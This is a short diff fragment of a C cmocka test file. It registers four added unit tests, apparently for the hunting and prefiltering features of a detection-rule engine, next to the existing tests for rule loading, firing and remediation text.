         cmocka_unit_test(test_load_clean), cmocka_unit_test(test_shipped_ids),
         cmocka_unit_test(test_references), cmocka_unit_test(test_fire),
         cmocka_unit_test(test_absent),     cmocka_unit_test(test_remediation_text),
+        cmocka_unit_test(test_hunt_events), cmocka_unit_test(test_hunt_sightings),
+        cmocka_unit_test(test_absent_not_on_logs), cmocka_unit_test(test_hunt_prefilters),
     };
 
     return cmocka_run_group_tests(tests, setup, teardown);
